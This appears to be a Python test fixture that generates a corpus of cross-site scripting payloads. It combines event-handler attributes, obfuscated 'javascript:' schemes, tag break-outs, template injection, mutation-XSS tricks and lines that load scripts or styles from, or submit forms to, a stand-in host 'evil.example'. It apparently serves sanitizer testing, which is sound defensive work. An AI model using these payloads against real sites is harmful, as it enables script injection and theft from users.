"""Strings that try to run a script, load something or break out of where they stand; ours, made of few parts."""

from itertools import product

SCRIPT = "window.__ran=1"
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "onbeforetoggle",
]
ELEMENTS = [
    "<img src=x {0}>", "<svg {0}>", "<body {0}>", "<details open {0}>", "<input autofocus {0}>", "<video src=x {0}>",
    "<iframe src=x {0}>", "<p {0} tabindex=1>x</p>", "<math {0}>", "<marquee {0}>",
]  # fmt: skip
WRAPPINGS = ["{0}", '"><{0}', "'>{0}", "</p>{0}", "-->{0}", "</textarea>{0}", "</title>{0}", "]]>{0}", "</script>{0}"]
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:",
    "&#x6a;avascript&colon;", "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "feed:javascript:",
]  # fmt: skip
SINGLE = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{SCRIPT}</script>",
    f"<<script>{SCRIPT}//<</script>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={SCRIPT}>\">",
    f"<template><script>{SCRIPT}</script></template>",
    f"<object data=javascript:{SCRIPT}></object>",
    f"<embed src=javascript:{SCRIPT}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{SCRIPT}>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<img src=https://evil.example/x.png>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<button formaction=javascript:{SCRIPT}>x</button>",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"${{{SCRIPT}}}",
    "{% load x %}{{ request.user }}",
    f"';{SCRIPT};'",
    f"\\\";{SCRIPT};//",
    f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{SCRIPT}</x:script>",
    f"<iframe srcdoc=\"<script>parent.{SCRIPT}</script>\"></iframe>",
    f"<p style=\"background:url(javascript:{SCRIPT})\">x</p>",
    f"<cms-plugin render-plugin=true id=1 title='<img src=x onerror={SCRIPT}>'></cms-plugin>",
    "<a href=/ ping=https://evil.example/>x</a>",
]  # fmt: skip
CORPUS = [
    *SINGLE,
    *(element.format(f"{handler}={SCRIPT}") for element, handler in product(ELEMENTS, HANDLERS)),
    *(wrap.format(f"<img src=x onerror={SCRIPT}>") for wrap in WRAPPINGS),
    *(f'<a href="{scheme}{SCRIPT}">x</a>' for scheme in SCHEMES),
    *(f"<a href={quote}{scheme}{SCRIPT}{quote} id=x>x</a>" for scheme, quote in product(SCHEMES, ["'", ""])),
    *(wrap.format(f"<svg/onload={SCRIPT}>") for wrap in WRAPPINGS),
    *(f"<{tag} src=https://evil.example/{tag}>" for tag in ("audio", "video", "iframe", "embed", "input type=image", "source", "track", "image", "script")),
    *(f"{opening}<script>{SCRIPT}</script>" for opening in ("<select>", "<table>", "<math>", "<svg>", "<title>", "<textarea>", "<style>", "<xmp>", "<noembed>", "<plaintext>")),
]  # fmt: skip
